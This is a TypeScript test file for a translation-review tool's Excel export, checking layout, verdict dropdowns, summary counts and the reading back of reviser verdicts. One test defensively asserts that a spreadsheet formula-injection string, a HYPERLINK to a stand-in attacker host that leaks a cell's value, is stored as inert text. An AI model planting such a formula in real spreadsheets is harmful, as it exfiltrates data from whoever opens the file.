import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { SaxesParser } from 'saxes';
import { expect, test } from 'vitest';
import { rowsOf, xlsx } from '../../src/report/xlsx.ts';
import { faultsReviewed, HOSTILE, hostileReport } from './reports.ts';

/** A cell as the file has it: its type, its text, and whether it holds a formula. */
type Cell = Readonly<{ type: string; text: string; formula: boolean }>;

/** Reads a workbook without the library that wrote it: unzipped and parsed strictly; cells by their reference ("A1"). */
function cellsOf(bytes: Uint8Array, sheet = 'xl/worksheets/sheet1.xml'): ReadonlyMap<string, Cell> {
  const files = unzipSync(bytes);
  const xml = (path: string) => strFromU8(files[path] ?? new Uint8Array());
  const shared: string[] = [];
  parse(
    xml('xl/sharedStrings.xml'),
    (name) => name === 'si' && shared.push(''),
    (text) => {
      shared[shared.length - 1] += text;
    },
  );
  const cells = new Map<string, Cell>();
  let current: { reference: string; type: string; text: string; formula: boolean } | null = null;
  parse(
    xml(sheet),
    (name, attributes) => {
      if (name === 'f' && current) current.formula = true;
      if (name === 'c')
        current = { reference: attributes.r ?? '', type: attributes.t ?? 'n', text: '', formula: false };
    },
    (text) => {
      if (current) current.text += text;
    },
    (name) => {
      if (name === 'sheetData') current = null;
      if (name !== 'c' || !current) return;
      const { reference, type, text, formula } = current;
      cells.set(reference, { type, text: type === 's' ? (shared[Number(text)] ?? '') : text, formula });
    },
  );
  return cells;
}

function parse(
  xml: string,
  opened: (name: string, attributes: Record<string, string>) => void,
  said: (text: string) => void,
  closed: (name: string) => void = () => {},
): void {
  const parser = new SaxesParser();
  parser.on('opentag', ({ name, attributes }) => opened(name, attributes as Record<string, string>));
  parser.on('text', said);
  parser.on('closetag', ({ name }) => closed(name));
  parser.on('error', (error) => {
    throw error;
  });
  parser.write(xml).close();
}

const HEADINGS = [
  'severity',
  'Clause',
  'Dutch',
  'English',
  'Finding',
  'verdict',
  'comment',
  'document',
  'title',
  'check',
  'words nl',
  'words en',
  'clause nl',
  'clause en',
  'MQM error type',
  'accepted',
  'fingerprint',
];
const row = (cells: ReadonlyMap<string, Cell>, number: number) =>
  Object.fromEntries(
    HEADINGS.map((heading, at) => [heading, cells.get(`${String.fromCharCode(65 + at)}${number}`)?.text ?? '']),
  );

test('a row a finding, under its headings', async () => {
  const { report } = faultsReviewed();
  const cells = cellsOf(await xlsx(report));
  expect(Object.values(row(cells, 1))).toEqual(HEADINGS);
  const at = report.findings.findIndex(({ message }) => message.includes('€ 25.000'));
  const finding = report.findings[at];
  expect(row(cells, at + 2)).toEqual({
    severity: 'error',
    Clause: '4.8',
    Dutch: finding?.passage.nl,
    English: finding?.passage.en,
    Finding: finding?.message,
    verdict: '',
    comment: '',
    document: 'corpus/waterlelie-faults/nl.txt and corpus/waterlelie-faults/en.txt',
    title: 'Algemene voorwaarden Waterlelie Software B.V. / General Terms and Conditions of Waterlelie Software B.V.',
    check: 'amounts',
    'words nl': '€ 25.000,-',
    'words en': 'EUR 2,500',
    'clause nl': '4.8',
    'clause en': '4.8',
    'MQM error type': 'Accuracy > Mistranslation',
    accepted: '',
    fingerprint: finding?.fingerprint,
  });
  expect(cells.has(`A${report.findings.length + 2}`)).toBe(false);
});

test('the header stays in view, can be filtered, and the verdict is chosen from a list', async () => {
  const { report } = faultsReviewed();
  const sheet = strFromU8(unzipSync(await xlsx(report))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  const last = report.findings.length + 1;
  expect(sheet).toContain('ySplit="1"');
  expect(sheet).toContain(`<autoFilter ref="A1:Q${last}"/>`);
  expect(sheet).toMatch(new RegExp(`<dataValidation [^>]*sqref="F2:F${last}"`));
  expect(sheet).toContain('<formula1>"to mend,right as it is,false alarm"</formula1>');
});

test('what a reviser does not need is there and hidden, also in Dutch', async () => {
  const { report } = faultsReviewed();
  const bytes = await xlsx({ ...report, locale: 'nl' });
  const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  expect(sheet.match(/<col [^>]*hidden="(?:1|true)"/g)?.length).toBeGreaterThan(0);
  expect(cellsOf(bytes).get('F1')?.text).toBe('oordeel');
  expect(sheet).toContain('<formula1>"herstellen,juist zo,vals alarm"</formula1>');
  expect(await rowsOf(filled(bytes, { F2: '<c r="F2" t="inlineStr"><is><t>juist zo</t></is></c>' }))).toHaveLength(1);
});

test('the second sheet counts by check and by article', async () => {
  const { report } = faultsReviewed();
  const counts = cellsOf(await xlsx(report), 'xl/worksheets/sheet2.xml');
  const table = [...counts]
    .filter(([reference]) => reference.startsWith('A'))
    .map(([reference, { text }]) => [text, reference.slice(1)]);
  const [, total] = table.find(([text]) => text === 'total') ?? [];
  expect(counts.get(`C${total}`)?.text).toBe(String(report.summary.error));
  expect(counts.get(`D${total}`)?.text).toBe(String(report.summary.warning));
  const articles = [...counts].filter(([reference]) => reference.startsWith('B')).map(([, { text }]) => text);
  expect(articles).toEqual(expect.arrayContaining(['article', '1', '4', '5']));
});

test('equal reports are equal files', async () => {
  const { report } = faultsReviewed();
  expect(Buffer.compare(await xlsx(report), await xlsx(report))).toBe(0);
});

test('words that a spreadsheet would run are strings, and none is lost or breaks the file', async () => {
  const cells = cellsOf(await xlsx(hostileReport()));
  expect(cells.size).toBeGreaterThan(2 * HOSTILE.length * 8);
  for (const { type, formula } of cells.values()) {
    expect(formula).toBe(false);
    expect(['s', 'inlineStr', 'n']).toContain(type);
  }
  const numbers = [...cells.values()].filter(({ type, text }) => type === 'n' && text !== '');
  expect(numbers).toEqual([]);
  const texts = [...cells.values()].map(({ text }) => text);
  expect(texts).toContain('=HYPERLINK("http://kwaad.example/?x="&A1;"klik hier")');
  expect(texts).toContain('_x005F_x0041_ en _x005F_x000D_');
  expect(texts.join('')).not.toMatch(/[^\P{Cc}\n\t]|\p{Bidi_Control}/u);
});

/** The workbook as another program saves it: cells put in as inline strings, truth values or rich text. */
const filled = (bytes: Uint8Array, cells: Readonly<Record<string, string>>): Uint8Array => {
  const files = unzipSync(bytes);
  let xml = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  for (const [reference, cell] of Object.entries(cells))
    xml = xml.replace(new RegExp(`<c r="${reference}"[^>]*/>|<c r="${reference}"[^>]*>.*?</c>`), cell);
  return zipSync({ ...files, 'xl/worksheets/sheet1.xml': strToU8(xml) });
};

test('the verdicts of a reviser are read back, and rows without one are left out', async () => {
  const { report } = faultsReviewed();
  const bytes = filled(await xlsx(report), {
    F2: '<c r="F2" t="inlineStr"><is><t>Accept </t></is></c>',
    G2: '<c r="G2" t="inlineStr"><is><r><t>agreed with </t></r><r><rPr><b/></rPr><t>the client</t></r></is></c>',
    F4: '<c r="F4" t="b"><v>1</v></c>',
    G5: '<c r="G5" t="inlineStr"><is><t>what is this?</t></is></c>',
  });
  const document = 'corpus/waterlelie-faults/nl.txt and corpus/waterlelie-faults/en.txt';
  const fingerprint = (row: number) => report.findings[row - 2]?.fingerprint;
  expect(await rowsOf(bytes)).toEqual([
    { place: 'row 2', document, fingerprint: fingerprint(2), verdict: 'Accept', comment: 'agreed with the client' },
    { place: 'row 4', document, fingerprint: fingerprint(4), verdict: 'true', comment: '' },
    { place: 'row 5', document, fingerprint: fingerprint(5), verdict: '', comment: 'what is this?' },
  ]);
});

test('a workbook that is none of ours has no rows to read', async () => {
  const { report } = faultsReviewed();
  const bytes = filled(await xlsx(report), { Q1: '<c r="Q1" t="inlineStr"><is><t>hash</t></is></c>' });
  expect(await rowsOf(bytes)).toBeNull();
});
